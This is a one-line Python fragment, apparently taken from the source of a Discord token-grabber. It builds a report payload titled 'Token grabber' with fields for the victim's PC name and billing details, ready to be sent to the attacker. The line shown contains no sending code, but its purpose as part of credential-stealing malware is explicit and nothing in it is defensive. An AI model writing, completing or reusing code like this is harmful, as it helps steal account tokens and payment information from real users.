data = {"embeds": [{"title": "Token grabber", "fields": [{"name": "PC Name", "value": pc}, {"name": "Billing:", "value": b}, {"name": "victim"}]}]}
